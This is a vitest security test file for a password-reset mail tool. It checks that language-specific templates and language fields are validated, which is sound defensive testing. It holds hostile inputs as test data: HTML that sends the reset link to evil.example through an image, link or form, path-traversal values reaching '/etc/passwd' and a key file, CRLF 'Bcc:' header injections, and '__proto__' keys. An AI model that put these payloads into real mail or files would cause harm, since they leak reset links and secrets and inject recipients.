import { mkdir, symlink, writeFile } from "node:fs/promises";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { Delivering } from "../support/delivering.js";

/** Someone uses a language to send another mail than the one that was reviewed, or to read or write what is not theirs. */
let delivering: Delivering;
beforeEach(async () => {
  delivering = await Delivering.open({ more: "templates: { de: {}, ar: {} }" });
});
afterEach(() => delivering.close());

function manifest(entry: object, smtp?: object): Promise<void> {
  const { place } = delivering;
  const [first] = place.users(1);
  const spec = smtp === undefined ? {} : { delivery: { smtp } };
  return place.manifest("batch", [{ ...first, ...entry }], spec);
}

async function refused(words: RegExp, code = 1): Promise<void> {
  const applied = await delivering.apply();
  expect([applied.code, applied.stdout]).toEqual([code, expect.anything()]);
  expect(applied.stderr).toMatch(words);
  expect(delivering.place.sandbox.stats().tickets).toBe(0);
  expect(await delivering.mail.taken()).toEqual([]);
}

describe("a manifest's template in another language", () => {
  it.each([
    ["an image with the link", '<img src="https://evil.example/?{{link}}"><a href="{{link}}">x</a>'],
    ["another link around it", '<a href="https://evil.example">{{link}}</a>'],
    ["a form", '<form action="https://evil.example">{{link}}</form>'],
    ["no link", "<p>Rufen Sie uns an.</p>"],
    ["a script", "<script>x</script>{{link}}"],
    ["more tags than a mail needs", `{{link}}${"<div>".repeat(3001)}`],
  ])("is looked through as any other: %s", async (_, html) => {
    await delivering.place.write("de.html", html);
    await manifest({}, { templates: { de: { html: "de.html" } } });
    await refused(/TEMPLATE_INVALID: .*de\.html:1:\d+: /);
  });

  it("is a regular file in the manifest's folder, not too large, and nothing of another is shown", async () => {
    const { place } = delivering;
    await mkdir(place.path("m"));
    await writeFile(place.path("secret.txt"), "AGE-SECRET-KEY-1QQQ {{no_field}} {{link}}");
    await symlink("../secret.txt", place.path("m/link.txt"));
    await writeFile(place.path("m/large.txt"), `{{link}}${" ".repeat(256 * 1024)}`);
    for (const text of ["../secret.txt", "link.txt", "/etc/passwd", ".", "none.txt", "large.txt"]) {
      const spec = { delivery: { smtp: { templates: { de: { text } } } }, users: place.users(1) };
      const metadata = { name: "m" };
      const document = { apiVersion: "reticket/v1", kind: "PasswordChangeTickets", metadata, spec };
      await writeFile(place.path("m/m.yaml"), JSON.stringify(document));
      const { code, stdout, stderr } = await place.run(["plan", "m"]);
      expect([text, code]).toEqual([text, 1]);
      expect(stderr).toMatch(/TEMPLATE_INVALID|MANIFEST_INVALID|m\.yaml:\d+:\d+ error/);
      expect(stdout + stderr).not.toMatch(/AGE-SECRET|root:/);
    }
  });

  it("is refused under `mail: config`, and an entry may still choose a language of the config", async () => {
    const { place } = delivering;
    const config = (await place.files()).get(place.path("reticket.yaml"))!;
    await place.write("reticket.yaml", `${config}policy: { mail: config }\n`);
    await manifest({}, { templates: { de: { note: "Rufen Sie 0900 an." } } });
    await refused(/POLICY_MAIL: .*`templates`/, 5);
    await manifest({}, { language_from: "app_metadata.secret" });
    await refused(/POLICY_MAIL: .*`language_from`/, 5);
    await manifest({ language: "de" });
    expect((await delivering.apply()).code).toBe(0);
  });

  it.each(["../de", "de/../../x", "__proto__", "de\r\nBcc: eve@evil.example", "d", "de-"])(
    "is not for %j, which is no language",
    async (language) => {
      await manifest({}, { templates: { [language]: {} } });
      await refused(/batch\.yaml:\d+:\d+ error /);
    },
  );

  it("can't say that it is in another language, nor turn the reading direction", async () => {
    await delivering.place.write("x.html", '<html lang="en"><a href="{{link}}">x</a></html>');
    await manifest({}, { templates: { de: { html: "x.html" } } });
    await refused(
      /TEMPLATE_INVALID: x\.html:1:1: the HTML says that its language is "en", and it is used for de/,
    );
    await delivering.place.write("x.html", '<html dir="ltr"><a href="{{link}}">x</a></html>');
    await manifest({}, { templates: { ar: { html: "x.html" } } });
    await refused(/TEMPLATE_INVALID: x\.html:1:1: the HTML is not rtl, as ar is written/);
  });
});

describe("after the review", () => {
  it.each(["--plan", "--reviewed"])(
    "with %s, an entry's other language and another template of one language are refused and named",
    async (flag) => {
      const { place } = delivering;
      await place.write("de.txt", "Hallo {{link}}");
      const templates = { de: { text: "de.txt" }, ar: {} };
      await manifest({ language: "ar" }, { templates });
      const planned = await place.run(["plan", "--out", "plan.json", "."]);
      expect(planned.code, planned.stderr).toBe(0);
      const apply = () => delivering.apply(flag, "plan.json");

      await manifest({ language: "de" }, { templates });
      const changed = await apply();
      expect(changed.code).toBe(4);
      expect(changed.stderr).toContain("language: ar → de");
      await manifest({}, { templates });
      expect((await apply()).stderr).toContain("language: ar → none");

      await manifest({ language: "ar" }, { templates });
      await place.write("de.txt", "Rufen Sie 0900 an: {{link}}");
      const other = await apply();
      expect(other.code).toBe(4);
      expect(other.stderr).toContain("the templates of the mail in de: content changed");

      await place.write("de.txt", "Hallo {{link}}");
      await manifest({ language: "ar" }, { templates, language_from: "user_metadata.x" });
      expect((await apply()).stderr).toContain("mail.language_from: nothing → user_metadata.x");
      expect(place.sandbox.stats().tickets).toBe(0);

      await manifest({ language: "ar" }, { templates });
      expect((await apply()).code).toBe(0);
    },
  );
});

describe("an entry's language", () => {
  it.each([
    "../../reticket.key",
    "de; Bcc: eve@evil.example",
    "__proto__",
    "constructor",
    "<b>de</b>",
    "{{link}}",
    "de,fr;q=0.9",
  ])(
    "%j is no file, no header and no mark-up: the default mail is sent, and it is counted",
    async (language) => {
      await manifest({ language });
      const applied = await delivering.apply();
      expect([applied.code, applied.stderr]).toEqual([0, ""]);
      expect(applied.stdout).toMatch(
        /Languages: 1 default \(1 (in a language without a template|with an unreadable language)\)\./,
      );
      const [taken] = await delivering.mail.taken();
      const [mail] = await delivering.mail.parsed();
      expect(taken!.to).toHaveLength(1);
      expect(mail!.subject).toBe("Choose a new password");
      expect(mail!.headers.get("content-language")).toBe("en-GB");
      expect(taken!.text).not.toContain("evil");
    },
  );

  it("that is long, or not one line, is refused with its position", async () => {
    for (const language of ["x".repeat(101), "de\r\nBcc: eve@evil.example", "de\u2028", ""]) {
      await manifest({ language });
      await refused(/batch\.yaml:\d+:\d+ error /);
    }
  });
});
